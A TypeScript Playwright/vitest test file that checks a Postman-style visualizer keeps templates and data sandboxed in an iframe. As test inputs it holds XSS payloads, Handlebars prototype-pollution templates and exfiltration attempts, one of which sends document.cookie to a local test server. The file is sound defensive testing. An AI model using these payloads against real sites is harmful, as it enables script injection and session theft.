// What pm.visualizer.set was given in a real run, shown in a sandboxed frame of real Chromium.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { Browser, Frame, Page } from "playwright-core";
import { visualizerPage, type VisualizerPageOptions, type VisualizerResult } from "@waybill/core";
import { run } from "waybill";
import { type FrameServer, startFrameServer } from "./frame-server.ts";
import { openBrowser } from "./open-browser.ts";

let browser: Browser;
let server: FrameServer;
let tab: Page;

beforeAll(async () => {
  [browser, server] = await Promise.all([openBrowser(), startFrameServer()]);
});
afterAll(async () => {
  await browser.close();
  await server[Symbol.asyncDispose]();
});
beforeEach(async () => {
  await tab?.close();
  tab = await browser.newPage();
  await tab.goto(server.url);
  await tab.evaluate(() => {
    document.cookie = "session=of-the-page";
    localStorage.setItem("session", "of-the-page");
  });
});

/** What the script `pm.visualizer.set(template, data)` gives, through the whole engine. */
async function visualize(template: string, data: object = {}): Promise<VisualizerResult> {
  const given = `${JSON.stringify(template)}, JSON.parse(${JSON.stringify(JSON.stringify(data))})`;
  const item = {
    name: "R",
    request: { method: "GET", url: server.url },
    event: [{ listen: "test", script: { exec: [`pm.visualizer.set(${given})`] } }],
  };
  const schema = "https://schema.getpostman.com/json/collection/v2.1.0/collection.json";
  const handle = run({ collection: { info: { name: "C", schema }, item: [item] } });
  for await (const event of handle) if (event.type === "visualizer") return event;
  throw new Error("The run told nothing of a visualizer.");
}

async function show(result: VisualizerResult, options?: VisualizerPageOptions): Promise<Frame> {
  server.asked.length = 0;
  await tab.evaluate(
    (html) =>
      new Promise<void>((resolve) => {
        const frame = document.createElement("iframe");
        frame.sandbox.add("allow-scripts");
        frame.srcdoc = html;
        frame.onload = () => resolve();
        document.body.append(frame);
      }),
    visualizerPage(result, options),
  );
  const frame = tab.frames().find((each) => each.parentFrame() !== null);
  if (frame === undefined) throw new Error("There is no frame.");
  return frame;
}

/** `[error, data]` that pm.getData calls back with. */
const dataIn = (frame: Frame): Promise<unknown> =>
  frame.evaluate("new Promise((resolve) => pm.getData((error, data) => resolve([error, JSON.stringify(data)])))");

describe("a visualizer page", () => {
  it("shows the template with its data, and gives its scripts the data", async () => {
    const template = `<p id="name">{{name}}</p><p id="got"></p><script>
      let now = true;
      pm.getData((error, data) => { got.textContent = [error, now, data.name, data.list.length].join() });
      now = false;
    </script>`;
    const frame = await show(await visualize(template, { name: "tea", list: [1, 2] }));
    await frame.waitForFunction("got.textContent !== ''");
    expect(await frame.textContent("#name")).toBe("tea");
    expect(await frame.textContent("#got")).toBe(",false,tea,2");
  });

  it("gives each call a copy of its own", async () => {
    const frame = await show(await visualize("<p></p>", { list: [1] }));
    await frame.evaluate(
      "new Promise((resolve) => pm.getData((error, data) => { data.list.push(2); JSON.parse = null; resolve() }))",
    );
    expect(await dataIn(frame)).toEqual([null, '{"list":[1]}']);
  });

  it("gives the error of a broken template", async () => {
    const frame = await show(await visualize("{{#if}", { a: 1 }));
    expect(await dataIn(frame)).toEqual([
      expect.objectContaining({ message: expect.stringContaining("Parse error") }),
      '{"a":1}',
    ]);
  });

  it.each([
    ["the end of a script", "</script><script>window.got=1</script>"],
    ["the beginning of a comment", "<!--<script>"],
    ["an element", "<img src=x onerror='window.got=1'>"],
    ["the end of an attribute", `"><svg onload="window.got=1">`],
    ["line separators", "\u2028\u2029window.got=1"],
    ["code between quotes", `'+(window.got=1)+"+(window.got=1)+\`\${window.got=1}\\`],
    ["a template", "{{lookup this 'constructor'}}{{{value}}}"],
  ])("data stays text: %s", async (_, value) => {
    const data = JSON.parse(`{"value":${JSON.stringify(value)},"__proto__":{"polluted":${JSON.stringify(value)}}}`);
    const frame = await show(await visualize(`<p id="shown" title="{{value}}">{{value}}</p>`, data));
    expect(await dataIn(frame)).toEqual([null, JSON.stringify(data)]);
    expect(await frame.textContent("#shown")).toBe(value);
    expect(await frame.getAttribute("#shown", "title")).toBe(value);
    expect(await frame.evaluate("[typeof got, ({}).polluted, document.body.children.length]")).toEqual([
      "undefined",
      undefined,
      1,
    ]);
  });

  it.each([
    "{{constructor.constructor 'return 1'}}",
    "{{__proto__.polluted}}{{#with (lookup this '__proto__')}}{{constructor}}{{/with}}",
    "{{#with this as |o|}}{{o.constructor.name}}{{o.__defineGetter__}}{{/with}}",
    "{{> (lookup this 'constructor')}}",
  ])("a template reaches nothing but its data: %s", async (template) => {
    const { processedTemplate = "", error } = await visualize(template, { a: 1 });
    expect([processedTemplate, typeof error]).toEqual(["", processedTemplate === "" ? typeof error : "undefined"]);
  });
});

const TRIES: Readonly<Record<string, string>> = {
  "reads the page": "parent.document.body.innerHTML",
  "reads cookies": "document.cookie",
  "reads the storage": "localStorage.getItem('session')",
  "asks for the page's storage": "parent.localStorage.getItem('session')",
  "calls into the page": "parent.eval('1')",
  "moves the page": "top.location = SERVER + '/top'",
  "opens a window": "window.open(SERVER + '/popup').closed",
  "finds pm of the sandbox": "pm.sendRequest(SERVER + '/pm')",
};

describe("a hostile template", () => {
  it.each(Object.entries(TRIES))("does not get out when it %s", async (_, code) => {
    const script = `let said; try { said = 'got ' + (${code}) } catch (error) { said = error.name } document.title = said;`;
    const frame = await show(await visualize(`<script>${script.replaceAll("SERVER", `'${server.url}'`)}</script>`));
    const said = await frame.evaluate("new Promise((resolve) => setTimeout(() => resolve(document.title), 100))");
    expect(["SecurityError", "TypeError"]).toContain(said);
    expect([tab.url(), tab.context().pages().length]).toEqual([`${server.url}/`, 1]);
    expect(server.asked).toEqual([]);
  });

  it.each([
    ["an image", "<img src='SERVER/x'>"],
    ["a script", "<script src='SERVER/x'></script>"],
    ["a module", "<script type=module>import('SERVER/x')</script>"],
    [
      "a style",
      "<link rel=stylesheet href='SERVER/x'><style>@import 'SERVER/y'; p{background:url(SERVER/z)}</style><p>x",
    ],
    ["a frame", "<iframe src='SERVER/x'></iframe><object data='SERVER/y'></object><embed src='SERVER/z'>"],
    ["a frame within", "<iframe srcdoc=\"<img src='SERVER/x'>\"></iframe>"],
    ["a base", "<base href='SERVER/'><img src=x>"],
    ["a policy of its own", "<meta http-equiv=Content-Security-Policy content='img-src *'><img src='SERVER/x'>"],
    ["a refresh", "<meta http-equiv=refresh content='0;url=SERVER/x'>"],
    ["a form", "<form action='SERVER/x' method=post><input name=a></form><script>document.forms[0].submit()</script>"],
    ["fetch", "<script>fetch('SERVER/x', { mode: 'no-cors' }).catch(() => {})</script>"],
    ["a beacon", "<script>navigator.sendBeacon('SERVER/x', 'data')</script>"],
    ["a request", "<script>const r = new XMLHttpRequest(); r.open('GET', 'SERVER/x'); r.send()</script>"],
    ["a socket", "<script>new WebSocket('SERVER/x'.replace('http', 'ws'))</script>"],
    ["a worker", "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('SERVER/x')\"])))</script>"],
    ["a way elsewhere", "<script>location = 'SERVER/x?' + document.cookie</script>"],
    ["a click on a link", "<a id=a href='SERVER/x' target=_top>x</a><script>a.click()</script>"],
  ])("sends nothing by %s", async (_, template) => {
    await show(await visualize(template.replaceAll("SERVER", server.url)));
    await settled();
    expect(server.asked).toEqual([]);
    expect(tab.url()).toBe(`${server.url}/`);
  });

  it("loads from the hosts it may, and no more comes in with their names", async () => {
    const { host } = new URL(server.url);
    const result = await visualize(`<img src='${server.url}/image'>`);
    await show(result, { hosts: ["*", "'self'", "https:", `${host}; img-src *`, `">`, "a b"] });
    await settled();
    expect(server.asked).toEqual([]);
    await show(result, { hosts: [`http://${host}`] });
    await settled();
    expect(server.asked).toEqual(["GET /image"]);
  });

  /** What must not happen has no end to wait for: the frame gets time to try, then whatever it began is before this request. */
  async function settled(): Promise<void> {
    await tab.waitForTimeout(300);
    await tab.evaluate("fetch('/asked')");
    server.asked.splice(server.asked.indexOf("GET /asked"), 1);
  }
});
